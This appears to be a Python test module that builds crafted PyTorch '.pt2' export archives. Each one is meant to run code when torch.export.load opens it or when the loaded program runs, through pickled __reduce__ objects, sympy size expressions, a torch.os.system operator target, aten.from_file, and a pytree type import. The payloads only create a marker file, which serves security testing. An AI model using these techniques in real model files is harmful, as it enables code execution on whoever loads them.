"""Crafted ``.pt2`` files that run code when ``torch.export.load`` opens them, or when the loaded program runs.

Each attack takes the parts of an honest archive and returns the parts of a crafted one. The code they carry makes a
file, so that a test sees whether it ran.
"""

from __future__ import annotations

import io
import json
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch
from torch import nn
from torch.export import Dim, export, save

Parts = dict[str, bytes]
WEIGHTS = "data/weights/model_weights_config.json"
CONSTANTS = "data/constants/model_constants_config.json"
SAMPLES = "data/sample_inputs/model.pt"
MODEL = "models/model.json"


class Touch:
    """Unpickling it makes a file."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple:
        return Path.touch, (self.mark,)


def honest() -> Parts:
    program = export(nn.Sequential(nn.Linear(3, 4), nn.ReLU()), (torch.ones(2, 3),), strict=False,
                     dynamic_shapes=({0: Dim.AUTO},))  # fmt: skip
    buffer = io.BytesIO()
    save(program, buffer)
    with zipfile.ZipFile(buffer) as archive:
        return {name.partition("/")[2]: archive.read(name) for name in archive.namelist()}


def write(parts: Parts, path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in parts.items():
            archive.writestr(f"m/{name}", content)
    return path


def saved(thing: object) -> bytes:
    buffer = io.BytesIO()
    torch.save(thing, buffer)
    return buffer.getvalue()


def edited(parts: Parts, name: str, edit: Callable[[dict], None]) -> Parts:
    content = json.loads(parts[name])
    edit(content)
    return {**parts, name: json.dumps(content).encode()}


def pickled_weight(parts: Parts, mark: Path) -> Parts:
    parts = edited(parts, WEIGHTS, lambda c: c["config"]["0.weight"].update(use_pickle=True))
    return {**parts, "data/weights/weight_0": saved(Touch(mark))}


def truthy_pickle_flag(parts: Parts, mark: Path) -> Parts:
    """Not the literal true, but true enough for torch."""
    parts = edited(parts, WEIGHTS, lambda c: c["config"]["0.weight"].update(use_pickle=1))
    return {**parts, "data/weights/weight_0": saved(Touch(mark))}


def pickled_constant(parts: Parts, mark: Path) -> Parts:
    entry = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}
    parts = edited(parts, CONSTANTS, lambda c: c["config"].update(evil=entry))
    return {**parts, "data/constants/opaque_obj_0": pickle.dumps(Touch(mark))}


def unpickled_flag_on_an_object(parts: Parts, mark: Path) -> Parts:
    """The kind of a constant is told by its file name, whatever the flag says."""
    shape = json.loads(parts[WEIGHTS])["config"]["0.bias"]["tensor_meta"]
    meta = {**shape, "dtype": 1, "requires_grad": False}  # bytes
    entry = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": False, "tensor_meta": meta}
    parts = edited(parts, CONSTANTS, lambda c: c["config"].update(evil=entry))
    return {**parts, "data/constants/opaque_obj_0": pickle.dumps(Touch(mark))}


def sample_input(parts: Parts, mark: Path) -> Parts:
    return {**parts, SAMPLES: saved(((Touch(mark),), {}))}


def legacy_weights(parts: Parts, mark: Path) -> Parts:
    return {**parts, "data/weights/model.pt": saved({"0.weight": Touch(mark)})}


def legacy_constants(parts: Parts, mark: Path) -> Parts:
    return {**parts, "data/constants/model.pt": saved({"c": Touch(mark)})}


def size_expression(parts: Parts, mark: Path) -> Parts:
    """Sizes are evaluated as Python by sympy."""
    code = f"__import__('pathlib').Path({str(mark)!r}).touch() or 2"

    def edit(content: dict) -> None:
        for value in content["graph_module"]["graph"]["tensor_values"].values():
            for size in value["sizes"]:
                if "as_expr" in size:
                    size["as_expr"]["expr_str"] = code

    return edited(parts, MODEL, edit)


def operator_name(parts: Parts, mark: Path) -> Parts:
    """Operator names are looked up on the torch module, which holds ``os``."""

    def edit(content: dict) -> None:
        node = content["graph_module"]["graph"]["nodes"][1]
        node["target"] = "torch.os.system"
        node["inputs"] = [{"name": "command", "arg": {"as_string": f"touch {mark}"}, "kind": 1}]

    return edited(parts, MODEL, edit)


def file_operator(parts: Parts, mark: Path) -> Parts:
    """An operator of aten that writes files."""

    def edit(content: dict) -> None:
        node = content["graph_module"]["graph"]["nodes"][1]
        node["target"] = "torch.ops.aten.from_file.default"
        node["inputs"] = [
            {"name": "filename", "arg": {"as_string": str(mark)}, "kind": 1},
            {"name": "shared", "arg": {"as_bool": True}, "kind": 1},
            {"name": "size", "arg": {"as_int": 8}, "kind": 1},
        ]

    return edited(parts, MODEL, edit)


def tree_type(parts: Parts, mark: Path) -> Parts:
    """The nesting of the arguments names a module to import."""

    def edit(content: dict) -> None:
        for entry in content["graph_module"]["module_call_graph"]:
            if entry.get("signature"):
                tree = json.loads(entry["signature"]["in_spec"])
                tree[1]["type"] = "collections.defaultdict"
                tree[1]["context"] = json.dumps(
                    {"default_factory_module": "antigravity", "default_factory_name": "fly"}
                )
                entry["signature"]["in_spec"] = json.dumps(tree)

    return edited(parts, MODEL, edit)


def compiled_library(parts: Parts, mark: Path) -> Parts:
    return {**parts, "data/aotinductor/model/model.so": b"\x7fELF"}


ATTACKS: dict[str, Callable[[Parts, Path], Parts]] = {
    f.__name__: f
    for f in (
        pickled_weight, truthy_pickle_flag, pickled_constant, unpickled_flag_on_an_object, sample_input, legacy_weights,
        legacy_constants, size_expression, operator_name, file_operator, tree_type, compiled_library,
    )
}  # fmt: skip

SEEN_TO_RUN = {
    "pickled_weight",
    "truthy_pickle_flag",
    "unpickled_flag_on_an_object",
    "pickled_constant",
    "sample_input",
    "size_expression",
}
"""Attacks whose code runs inside ``torch.export.load`` of torch 2.13, before any model is called."""
